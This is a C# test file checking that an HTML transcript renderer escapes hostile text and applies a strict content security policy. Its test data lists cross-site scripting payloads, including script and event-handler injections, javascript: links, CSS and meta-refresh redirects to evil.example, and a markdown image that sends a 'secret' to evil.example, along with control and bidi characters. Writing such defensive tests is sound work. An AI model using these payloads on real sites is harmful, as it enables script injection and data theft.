using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Thole.Protocol;
using Thole.Wire.Transcripts;

namespace Thole.Wire.Tests.Transcripts;

/// <summary>A page that shows what hostile people, tools and models wrote, and does nothing of it.</summary>
public sealed partial class HtmlTranscriptSpecs
{
    private const string Bidi = "\u202e\u2066\u200b\u00ad";

    public static TheoryData<string> Attacks { get; } =
    [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</pre></div></main><script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "' onmouseover='alert(1)",
        "\" style=\"background:url(https://evil.example/)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1)) ![x](https://evil.example/?secret)",
        "<style>*{background:url(//evil.example)}</style>",
        "</style><link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/><iframe srcdoc='<script>1</script>'></iframe>",
        "<!--",
        "<![CDATA[ ]]> <?xml ?> <!doctype html>",
        "&lt;script&gt; &#x3c;script&#x3e; &NotEqualTilde;",
        "+<script>1</script>\n-<script>2</script>\n@@ <b>",
        "\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007 \0 \u0085 \u009b31m \u2028 \u2029 \ufeff",
        "a" + Bidi + "b \ud800 \udfff \uffff",
        "\U000e0041\U000e0042",
    ];

    private static CancellationToken Now => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Whoever_writes_it_and_wherever_it_stands_it_is_text(string attack)
    {
        var plain = await PageAsync("x");

        var page = await PageAsync(attack);

        // The same tags in the same order, whatever was said: none came, none went, none has got an attribute.
        Assert.Equal(
            TagsOf(plain),
            TagsOf(page.Replace("<span class=\"add\">", "").Replace("<span class=\"del\">", "").Replace("</span>", ""))
        );
        Assert.DoesNotContain(
            page.EnumerateRunes(),
            rune => TerminalText.IsInvisible(rune) || Rune.IsControl(rune) && rune.Value is not '\n'
        );
        Assert.DoesNotContain('\ufffd', page); // no half character reaches the bytes
    }

    [Fact]
    public async Task What_was_said_can_be_read_as_it_was()
    {
        var page = await PageAsync("if (a < b && c > \"d\") { 'é' \U0001f6a3 }" + Bidi);

        Assert.Contains(
            "if (a &lt; b &amp;&amp; c &gt; &quot;d&quot;) { &#39;é&#39; \U0001f6a3 }\\u202e\\u2066\\u200b\\u00ad",
            page
        );
        Assert.Contains("Said while it ran", page);
        Assert.Contains("not permitted, did not run", page);
        Assert.Contains("started, and the log does not say how it ended", page);
        Assert.Contains("tokens: 12 in, 3 out", page);
    }

    [Fact]
    public async Task A_page_needs_nothing_beside_it_and_its_policy_allows_its_own_style_alone()
    {
        var page = await PageAsync("x");

        var style = page[
            (page.IndexOf("<style>", StringComparison.Ordinal) + 7)..page.IndexOf("</style>", StringComparison.Ordinal)
        ];
        var hash = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes(style)));
        Assert.StartsWith("<!doctype html>\n", page);
        Assert.Contains($"default-src 'none'; style-src 'sha256-{hash}'; base-uri 'none'; form-action 'none'", page);
        Assert.Contains($"'sha256-{hash}'", HtmlTranscript.Policy);
        Assert.Contains("prefers-color-scheme:dark", style);
        Assert.DoesNotMatch("(?i)url\\(|@import|https?:|src=|href=|<script|<link|<img|<iframe|<form", page);
        Assert.DoesNotContain('\r', page);
    }

    [Fact]
    public async Task A_diff_tells_what_is_new_from_what_is_gone()
    {
        var page = await PageAsync("@@ -1 +1 @@\n-old\n+new\n same\n");

        Assert.Contains(
            "<pre>\n@@ -1 +1 @@\n<span class=\"del\">-old</span>\n<span class=\"add\">+new</span>\n same\n</pre>",
            page
        );
    }

    [Fact]
    public void Every_format_is_found_by_its_name_and_by_its_extension()
    {
        Assert.Equal(["md", "json", "jsonl", "html"], TranscriptFormat.All.Select(format => format.Extension));
        Assert.All(TranscriptFormat.All, format => Assert.Same(format, TranscriptFormat.Find(format.Extension)));
        Assert.All(TranscriptFormat.All, format => Assert.Same(format, TranscriptFormat.Find(format.Name)));
        Assert.Null(TranscriptFormat.Find("pdf"));
    }

    /// <summary>A session in which everything that others can write is <paramref name="said"/>.</summary>
    private static async Task<string> PageAsync(string said)
    {
        var (turn, done, refused, open) = (new TurnId(said), new CallId("c1"), new CallId("c2"), new CallId(said));
        using var output = new MemoryStream();
        await TranscriptFormat
            .Find("html")!
            .WriteAsync(
                new SessionSummary(
                    new SessionId(said),
                    said,
                    said,
                    said,
                    DateTimeOffset.UnixEpoch,
                    DateTimeOffset.UnixEpoch,
                    1,
                    1
                ),
                Events(
                    said,
                    new TurnStarted(turn, new PromptId(said), [new TextContent(said), new ImageContent(said, new BlobId(said))]),
                    new StepStarted(turn, 1, said),
                    new TextPiece("void"),
                    new AttemptFailed(said, said, 1),
                    new StepStarted(turn, 1, said),
                    new ReasoningPiece(said),
                    new TextPiece(said),
                    new MessageCompleted(said, new Usage(12, 3)),
                    new CallRequested(new ToolCall(done, said, said), ToolKind.Edit, said),
                    new PermissionRequested(done, said, []),
                    new PermissionAnswered(done, Allow: true, [said, said], said),
                    new CallStarted(done),
                    new CallCompleted(
                        done,
                        CallOutcome.Succeeded,
                        new ToolResult
                        {
                            Text = said,
                            Display =
                            [
                                new TextContent(said),
                                new DiffContent(said, said, IsNew: true),
                                new TerminalContent(said, said, 1),
                            ],
                        }
                    ),
                    new CallRequested(new ToolCall(refused, said, said), ToolKind.Execute, ""),
                    new CallCompleted(refused, CallOutcome.Refused, ToolResult.Failed(said, said)),
                    new TodosChanged([new Todo(said, said, TodoStatus.InProgress)]),
                    new SteeringTaken(turn, [new SteeringReceived(new PromptId(said), [new TextContent(said)])]),
                    new ModelSelected(said),
                    new ApprovalModeSelected(ApprovalMode.Yolo),
                    new ContextCompacted(said, 1, new Usage()),
                    new CompactionFailed(said),
                    new LogRecovered(1, said),
                    new UnknownEvent(said, 9, JsonElement.Parse($"\"{JsonEncodedText.Encode(Whole(said))}\"")),
                    new TextPiece(said),
                    new TurnEnded(turn, TurnOutcome.Interrupted, said),
                    new CallStarted(open)
                ),
                output,
                Now
            );
        return Encoding.UTF8.GetString(output.ToArray());
    }

    /// <summary>JSON cannot hold half a character.</summary>
    private static string Whole(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text)).Replace("\ufffd", "");

    private static string TagsOf(string page) => string.Join('\n', Tag.Matches(page).Select(tag => tag.Value));

    private static async IAsyncEnumerable<Envelope> Events(string by, params IReadOnlyList<SessionEvent> events)
    {
        foreach (var (index, happened) in events.Index())
        {
            yield return new Envelope(index + 1, DateTimeOffset.UnixEpoch, new Actor(by), happened);
        }

        await Task.CompletedTask;
    }

    [GeneratedRegex("<[^>]*>", RegexOptions.NonBacktracking)]
    private static partial Regex Tag { get; }
}
